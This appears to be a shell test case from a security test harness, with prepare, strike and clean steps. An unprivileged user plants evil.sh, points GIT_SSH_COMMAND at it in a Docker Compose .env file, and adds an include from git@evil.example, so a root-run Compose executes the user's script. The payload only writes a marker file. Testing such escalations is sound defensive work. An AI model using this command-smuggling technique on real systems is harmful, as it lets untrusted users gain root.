# The stack's owner includes a repository and names his own program for its SSH in .env: Compose, asked by root, starts git with it.
prepare() {
  give_stack
  cp -p $matrix/docker-compose.yml "$kept/compose"
  cp -p $matrix/.env "$kept/env"
  # As git does for such an address; git itself is not on the practice host.
  # shellcheck disable=SC2016
  printf '#!/bin/sh\n[ -z "$GIT_SSH_COMMAND" ] || exec sh -c "$GIT_SSH_COMMAND"\n' > /usr/local/bin/git
  chmod 755 /usr/local/bin/git
}
strike() {
  as guest sh -c "printf '#!/bin/sh\nid -u > /root/ran\n' > $matrix/evil.sh && chmod 755 $matrix/evil.sh"
  as guest sh -c "printf 'GIT_SSH_COMMAND=$matrix/evil.sh\nCOMPOSE_EXPERIMENTAL_GIT_REMOTE=1\n' >> $matrix/.env"
  as guest sh -c "printf 'include:\n  - git@evil.example:x/y.git\n' >> $matrix/docker-compose.yml"
}
clean() {
  rm -f /usr/local/bin/git $matrix/evil.sh
  sed -i '/^.usr.local.bin.git |/d' "$kept/outside"
  cat "$kept/compose" > $matrix/docker-compose.yml
  cat "$kept/env" > $matrix/.env
  take_stack
}
